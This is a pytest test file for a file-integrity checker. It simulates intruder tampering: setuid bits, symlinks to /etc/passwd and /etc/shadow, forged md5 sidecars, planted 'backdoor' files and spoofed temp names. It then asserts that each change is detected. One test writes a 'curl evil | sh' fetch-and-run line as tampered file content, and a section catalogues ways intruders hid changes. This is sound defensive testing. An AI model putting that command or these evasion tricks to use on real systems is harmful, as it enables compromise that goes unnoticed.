"""The catalog in real runs (issue 11): every alteration AIDE reports, we report.

Each alteration is made alone after a first run: the check exits 1 with the
right status and `changes`, the server's log has the audit line, then
`--update` accepts it and the next run is clean.
"""

import os
import shutil
import sqlite3
import subprocess
import sys

import pytest

from helpers import CLIENT, files_in, make_tree, run_client, wait_until, workers_frozen

pytestmark = pytest.mark.timeout(120)


@pytest.fixture
def tree(tmp_path):
    root = tmp_path / "tree"
    make_tree(root, files=12, dirs=3)
    (root / "bin").mkdir()
    (root / "bin" / "tool").write_bytes(b"#!/bin/sh\necho tool\n")
    os.chmod(root / "bin" / "tool", 0o755)
    (root / "etc").mkdir()
    (root / "etc" / "app.conf").write_text("listen 80\n")
    (root / "etc" / "current").symlink_to("app.conf")
    return root


def first_run(server, tree):
    result = run_client(server, tree)
    assert result.status == 0, result.stdout + result.stderr
    assert "recorded in the catalog" in result.stdout
    return result


def check(server, tree, *args):
    result = run_client(server, "--json", *args, tree)
    return result, result.records(every_entry=True)[0]


def alteration_is_caught(server, tree, path, status, changes):
    """Exit 1, the status and changes, the audit line; then --update; then clean."""
    result, records = check(server, tree)
    assert result.status == 1, result.stdout + result.stderr
    record = records[str(path)]
    assert record["status"] == status, record
    assert set(changes) <= set(record.get("changes", [])), record
    event = "file.missing" if status == "MISSING" else "file.changed"
    logged = [e for e in server.events(event) if e["path"] == str(path)]
    assert logged, f"no {event} for {path} in the server's log"
    checked = [e["session"] for e in server.events("session.opened")][-2]
    assert logged[-1]["check"] == checked, "the audit names the session that checked"
    if changes:
        assert set(changes) <= set(logged[-1]["changes"].split(","))
    accepted = run_client(server, "--update", tree)
    assert accepted.status == 1, accepted.stdout + accepted.stderr
    clean = run_client(server, tree)
    assert clean.status == 0, clean.stdout + clean.stderr
    return record


class TestEachAlterationAlone:
    def test_a_deleted_directory_and_its_sidecars(self, server, tree):
        first_run(server, tree)
        gone = sorted(str(p) for p in (tree / "d1").iterdir() if not p.name.endswith(".md5"))
        shutil.rmtree(tree / "d1")
        human = run_client(server, tree)
        assert human.status == 1
        assert f"MISSING  {tree}/d1  (a directory, and {len(gone)} entries below it)" \
            in human.stdout
        result, records = check(server, tree)
        assert all(records[p]["status"] == "MISSING" for p in gone)
        alteration_is_caught(server, tree, tree / "d1", "MISSING", [])

    def test_a_file_replaced_by_a_symlink_to_passwd(self, server, tree):
        first_run(server, tree)
        conf = tree / "etc" / "app.conf"
        conf.unlink()
        conf.symlink_to("/etc/passwd")
        human = run_client(server, tree)
        assert f"CHANGED  {conf}  (regular file -> symbolic link to /etc/passwd)" \
            in human.stdout
        alteration_is_caught(server, tree, conf, "CHANGED", ["type"])

    def test_setuid_added(self, server, tree):
        first_run(server, tree)
        tool = tree / "bin" / "tool"
        os.chmod(tool, 0o4755)
        assert f"CHANGED  {tool}  (mode 0755 -> 4755)" in run_client(server, tree).stdout
        alteration_is_caught(server, tree, tool, "CHANGED", ["mode"])

    def test_owner_changed(self, server, tree):
        first_run(server, tree)
        conf = tree / "etc" / "app.conf"
        os.chown(conf, 65534, -1)
        record = alteration_is_caught(server, tree, conf, "CHANGED", ["owner"])
        assert record["was"]["uid"] == 0 and record["now"]["uid"] == 65534

    def test_content_changed_and_sidecar_forged_with_md5sum(self, server, tree):
        first_run(server, tree)
        tool = tree / "bin" / "tool"
        tool.write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
        forged = subprocess.run(["md5sum", "tool"], cwd=tool.parent, capture_output=True)
        (tree / "bin" / "tool.md5").write_bytes(forged.stdout)
        record = alteration_is_caught(server, tree, tool, "CHANGED", ["content", "sidecar"])
        assert record["expected"] == record["was"]["md5"], "checked against the catalog"

    def test_a_symlink_retargeted(self, server, tree):
        first_run(server, tree)
        link = tree / "etc" / "current"
        link.unlink()
        link.symlink_to("/etc/shadow")
        record = alteration_is_caught(server, tree, link, "CHANGED", ["target"])
        assert record["was"]["target"] == "app.conf"

    def test_a_file_replaced_by_a_fifo(self, server, tree):
        first_run(server, tree)
        conf = tree / "etc" / "app.conf"
        conf.unlink()
        os.mkfifo(conf)
        alteration_is_caught(server, tree, conf, "CHANGED", ["type"])

    def test_a_file_replaced_by_a_directory(self, server, tree):
        first_run(server, tree)
        conf = tree / "etc" / "app.conf"
        conf.unlink()
        conf.mkdir()
        (conf / "inside").write_text("x")
        alteration_is_caught(server, tree, conf, "CHANGED", ["type"])

    def test_a_deleted_sidecar(self, server, tree):
        first_run(server, tree)
        (tree / "bin" / "tool.md5").unlink()
        alteration_is_caught(server, tree, tree / "bin" / "tool", "CHANGED", ["sidecar"])
        assert (tree / "bin" / "tool.md5").exists(), "--update puts the sidecar back"

    @pytest.mark.parametrize("replacement", ["junk", "symlink", "directory"])
    def test_a_sidecar_replaced(self, server, tree, replacement):
        first_run(server, tree)
        sidecar = tree / "bin" / "tool.md5"
        sidecar.unlink()
        if replacement == "junk":
            sidecar.write_text("not a sidecar at all\n")
        elif replacement == "symlink":
            sidecar.symlink_to("/etc/passwd")
        else:
            sidecar.mkdir()
        result, records = check(server, tree)
        assert result.status == 1
        assert records[str(tree / "bin" / "tool")]["status"] == "CHANGED"
        assert "sidecar" in records[str(tree / "bin" / "tool")]["changes"]

    def test_a_move_is_one_moved(self, server, tree):
        first_run(server, tree)
        os.rename(tree / "etc" / "app.conf", tree / "bin" / "app.conf")
        human = run_client(server, tree)
        assert human.status == 1
        assert f"MOVED    {tree}/etc/app.conf -> {tree}/bin/app.conf" in human.stdout
        assert wait_until(lambda: server.events("file.moved"))[-1]["to"] == \
            str(tree / "bin" / "app.conf")

    def test_a_new_file_under_a_known_root_is_a_finding(self, server, tree):
        first_run(server, tree)
        planted = tree / "bin" / "backdoor"
        planted.write_text("#!/bin/sh\n")
        human = run_client(server, tree)
        assert human.status == 1 and f"NEW      {planted}" in human.stdout
        assert run_client(server, tree).status == 0, "recorded: not new again"

    def test_touch_alone_is_no_alteration(self, server, tree):
        first_run(server, tree)
        os.utime(tree / "etc" / "app.conf", (1e9, 1e9))
        result, records = check(server, tree)
        assert result.status == 0, result.stdout
        record = records[str(tree / "etc" / "app.conf")]
        assert record["status"] == "OK" and "mtime" in record["changes"]


class TestShapes:
    def test_names_that_are_not_utf8_or_hold_newlines(self, server, tmp_path):
        root = tmp_path / "odd"
        root.mkdir()
        for name in (b"caf\xe9", b"two\nlines", b"back\\slash"):
            with open(os.path.join(os.fsencode(root), name), "wb") as f:
                f.write(name * 10)
        assert run_client(server, root).status == 0
        os.chmod(os.path.join(os.fsencode(root), b"caf\xe9"), 0o600)
        os.unlink(os.path.join(os.fsencode(root), b"two\nlines"))
        result, records = check(server, root)
        assert result.status == 1
        assert records[os.fsdecode(os.path.join(os.fsencode(root), b"caf\xe9"))][
            "changes"] == ["mode", "ctime"]
        assert records[str(root / "two\nlines")]["status"] == "MISSING"

    def test_a_deleted_subtree_of_a_thousand_files(self, server, tmp_path):
        root = tmp_path / "big"
        make_tree(root / "data", files=1000, dirs=10)
        (root / "keep").write_text("k")
        assert run_client(server, root).status == 0
        shutil.rmtree(root / "data")
        result, records = check(server, root)
        assert result.status == 1
        assert sum(r["status"] == "MISSING" for r in records.values()) == 1000 + 10 + 1
        human = run_client(server, root)
        assert [line.split()[0] for line in human.stdout.splitlines()][:-1] == \
            ["MISSING"], "folded into one line"
        assert "1010 entries below it" in human.stdout

    def test_a_root_that_is_a_symlink_to_a_directory_is_that_tree(self, server, tree,
                                                                 tmp_path):
        www = tmp_path / "www"
        www.symlink_to(tree)
        assert run_client(server, www).status == 0
        os.chmod(tree / "bin" / "tool", 0o777)
        result, records = check(server, www)
        assert result.status == 1 and records[str(www / "bin" / "tool")]["status"] == \
            "CHANGED"

    def test_overlapping_paths_check_each_file_once(self, server, tree):
        result = run_client(server, "--json", tree, tree / "bin", tree)
        assert result.status == 0
        result.records()                  # asserts no path twice

    def test_a_data_file_named_md5_beside_its_namesake(self, server, tmp_path):
        root = tmp_path / "app"
        root.mkdir()
        (root / "app").write_text("the program")
        (root / "app.md5").write_text("release notes, not a checksum\n")
        assert run_client(server, root).status == 0
        (root / "app.md5").write_text("tampered notes\n")
        result, records = check(server, root)
        assert result.status == 1
        assert records[str(root / "app.md5")]["status"] == "CHANGED"
        assert records[str(root / "app")]["status"] == "OK"

    def test_excluded_paths_are_never_missing(self, server, tree):
        assert run_client(server, tree).status == 0
        shutil.rmtree(tree / "d0")
        result = run_client(server, "--exclude", "d0", tree)
        assert result.status == 0, result.stdout

    def test_a_sidecar_only_tree_is_upgraded(self, server, tree, private_catalog):
        assert run_client(server, tree).status == 0
        private_catalog.unlink()              # as if made before the catalog existed
        for extra in ("-wal", "-shm"):
            if os.path.exists(str(private_catalog) + extra):
                os.unlink(str(private_catalog) + extra)
        (tree / "d2" / "f2.dat").write_text("changed before the upgrade")
        result = run_client(server, tree)
        assert result.status == 1, "the sidecars were the baseline until now"
        assert f"CHANGED  {tree}/d2/f2.dat" in result.stdout
        assert "recorded in the catalog" in result.stdout
        assert run_client(server, tree).status == 1, "the old baseline is kept"

    def test_the_store_with_the_catalog(self, server, tree, tmp_path):
        store = tmp_path / "store"
        store.mkdir()
        assert run_client(server, "--store", store, tree).status == 0
        os.chmod(tree / "bin" / "tool", 0o700)
        result, records = check(server, tree, "--store", store)
        assert result.status == 1
        assert records[str(tree / "bin" / "tool")]["changes"][0] == "mode"


class TestTheCatalogItself:
    @pytest.mark.parametrize("damage", ["truncated", "random", "empty"])
    def test_a_damaged_catalog_is_refused(self, server, tree, private_catalog, damage):
        assert run_client(server, tree).status == 0
        data = private_catalog.read_bytes()
        for extra in ("-wal", "-shm"):
            if os.path.exists(str(private_catalog) + extra):
                os.unlink(str(private_catalog) + extra)
        private_catalog.write_bytes({"truncated": data[:len(data) // 2],
                                     "random": os.urandom(len(data)),
                                     "empty": b""}[damage])
        before = private_catalog.read_bytes()
        result = run_client(server, tree)
        assert result.status == 2 and str(private_catalog) in result.stderr
        assert private_catalog.read_bytes() == before

    def test_a_symlinked_or_foreign_or_inside_catalog_is_refused(self, server, tree,
                                                                private_catalog):
        real = private_catalog.parent / "real.sqlite"
        assert run_client(server, "--catalog", real, tree).status == 0
        (private_catalog.parent / "link.sqlite").symlink_to(real)
        assert run_client(server, "--catalog", private_catalog.parent / "link.sqlite",
                          tree).status == 2
        os.chown(real, 65534, 65534)
        assert run_client(server, "--catalog", real, tree).status == 2
        inside = run_client(server, "--catalog", tree / "catalog.sqlite", tree)
        assert inside.status == 2 and not (tree / "catalog.sqlite").exists()

    def test_a_client_killed_mid_run_leaves_every_alteration_to_report(self, server, tree,
                                                                      private_catalog):
        first_run(server, tree)
        os.chmod(tree / "bin" / "tool", 0o4755)
        (tree / "bin" / "planted").write_text("new")
        with workers_frozen(server):                # the run cannot finish
            proc = subprocess.Popen([sys.executable, CLIENT, "--fifo", server.fifo, tree],
                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            wait_until(lambda: len(server.events("session.opened")) >= 2)
            proc.kill()
            proc.wait()
        result, records = check(server, tree)
        assert result.status == 1
        assert records[str(tree / "bin" / "tool")]["status"] == "CHANGED"
        assert records[str(tree / "bin" / "planted")]["status"] == "NEW"

    def test_two_clients_share_a_catalog(self, server, tmp_path, private_catalog):
        a, b = tmp_path / "a", tmp_path / "b"
        make_tree(a, files=200)
        make_tree(b, files=200, seed=1)
        procs = [subprocess.Popen([sys.executable, CLIENT, "--fifo", server.fifo, str(t)],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
                 for t in (a, b)]
        assert [p.wait(60) for p in procs] == [0, 0]
        for p in procs:
            p.stdout.close()
            p.stderr.close()
        with sqlite3.connect(private_catalog) as con:
            roots = {row[0] for row in con.execute("SELECT path FROM roots")}
        con.close()
        assert roots == {os.fsencode(a), os.fsencode(b)}
        os.chmod(a / "d0" / "f0.dat", 0o600)
        os.chmod(b / "d0" / "f0.dat", 0o600)
        assert run_client(server, a).status == 1 and run_client(server, b).status == 1

    def test_a_recorded_file_that_cannot_be_verified_exits_1(self, server, tree):
        first_run(server, tree)
        victim = tree / "etc" / "app.conf"
        with workers_frozen(server):             # listed, but not read yet
            proc = subprocess.Popen([sys.executable, CLIENT, "--fifo", server.fifo, "--json",
                                     tree], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                    text=True)
            wait_until(lambda: files_in(server) == 14, what="every file with the server")
            victim.unlink()
        out, err = proc.communicate(timeout=60)
        assert proc.returncode == 1, out + err
        assert '"status": "ERROR"' in out

    def test_nothing_verifiable_at_all_exits_2(self, start_server, tree):
        server = start_server("--chaos", "crash:1.0", "--backoff-scale", "0.05")  # no wait
        result = run_client(server, tree)
        assert result.status == 2, result.stdout
        assert "ERROR" in result.stdout



def test_two_first_runs_of_one_tree_at_once_both_succeed(server, tmp_path):
    """Both record the tree; a sidecar the other run wrote with the same hash is
    no error (it once made hundreds of ERRORs)."""
    tree = tmp_path / "same"
    make_tree(tree, files=300, dirs=3)
    procs = [subprocess.Popen([sys.executable, CLIENT, "--fifo", server.fifo, "--json",
                               str(tree)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True) for _ in range(2)]
    outs = [p.communicate(timeout=60) for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outs
    errors = [line for out, _ in outs for line in out.splitlines() if '"ERROR"' in line]
    assert not errors, errors
    assert run_client(server, tree).status == 0


class TestWhatAnIntruderTried:
    """Found by a review that played the intruder; each hid a change at exit 0."""

    def test_entries_named_like_our_temp_files_are_still_entries(self, server, tree):
        first_run(server, tree)
        shutil.copy("/bin/true", tree / "bin" / ".osp-1-1.tmp")
        os.chmod(tree / "bin" / ".osp-1-1.tmp", 0o4755)
        (tree / ".osp-7-7.tmp").mkdir()
        (tree / ".osp-7-7.tmp" / "rootkit").write_text("payload")
        result, records = check(server, tree)
        assert result.status == 1
        assert records[str(tree / "bin" / ".osp-1-1.tmp")]["status"] == "NEW"
        assert records[str(tree / ".osp-7-7.tmp" / "rootkit")]["status"] == "NEW"

    def test_a_name_dot_md5_beside_a_directory_or_symlink_is_an_entry(self, server, tree):
        first_run(server, tree)
        (tree / "etc.md5").write_text("evil payload\n")
        (tree / "etc" / "current.md5").mkdir()
        (tree / "etc" / "current.md5" / "x").write_text("hidden")
        (tree / "bin" / "tool.md5").unlink()
        (tree / "bin" / "tool.md5").mkdir()                 # in a sidecar's place
        (tree / "bin" / "tool.md5" / "y").write_text("hidden too")
        result, records = check(server, tree)
        assert result.status == 1
        for planted in ("etc.md5", "etc/current.md5/x", "bin/tool.md5/y"):
            assert records[str(tree / planted)]["status"] == "NEW", planted
        assert "sidecar" in records[str(tree / "bin" / "tool")]["changes"]

    def test_a_recorded_file_swapped_for_a_symlink_after_the_listing(self, server, tree):
        first_run(server, tree)
        victim = tree / "etc" / "app.conf"
        with workers_frozen(server):
            proc = subprocess.Popen([sys.executable, CLIENT, "--fifo", server.fifo, tree],
                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                    text=True)
            wait_until(lambda: files_in(server) == 14, what="every file with the server")
            victim.unlink()
            victim.symlink_to("/etc/hostname")
        out, err = proc.communicate(timeout=60)
        assert proc.returncode == 1, out + err

    def test_a_new_entry_in_a_known_tree_inside_a_new_root(self, server, tree):
        assert run_client(server, tree / "bin").status == 0
        planted = tree / "bin" / "evil"
        planted.write_text("evil")
        os.chmod(planted, 0o4755)
        result = run_client(server, tree)
        assert result.status == 1 and f"NEW      {planted}" in result.stdout

    def test_a_directory_become_a_file_is_accepted_by_update(self, server, tree):
        first_run(server, tree)
        shutil.rmtree(tree / "d0")
        (tree / "d0").write_text("data")
        assert run_client(server, tree).status == 1
        assert run_client(server, "--update", tree).status == 1
        again = run_client(server, tree)
        assert again.status == 0, again.stdout

    def test_what_changed_on_the_way_of_a_move_is_shown(self, server, tree):
        first_run(server, tree)
        os.rename(tree / "bin" / "tool", tree / "bin" / ".tool")
        os.chmod(tree / "bin" / ".tool", 0o4755)
        human = run_client(server, tree)
        assert f"MOVED    {tree}/bin/tool -> {tree}/bin/.tool  (mode 0755 -> 4755)" \
            in human.stdout

    def test_a_catalog_whose_parent_another_user_owns_is_refused(self, server, tree,
                                                                 tmp_path):
        home = tmp_path / "home"
        home.mkdir()
        os.chown(home, 65534, 65534)
        result = run_client(server, "--catalog", home / "state" / "c.sqlite", tree)
        assert result.status == 2 and "could move the catalog aside" in result.stderr

    def test_a_root_spelled_with_two_slashes(self, server, tree):
        result = run_client(server, "/" + str(tree), timeout=30)
        assert result.status == 0, result.stderr

    def test_a_tampered_file_behind_a_junk_sidecar_is_told_on_the_upgrade(self, server,
                                                                          tmp_path):
        root = tmp_path / "old"
        root.mkdir()
        (root / "b").write_text("tampered")
        (root / "b.md5").write_text("junk where its sidecar was\n")
        result = run_client(server, root)
        assert result.status == 0
        assert f"NEW      {root}/b  (b.md5 beside it is not its sidecar" in result.stdout
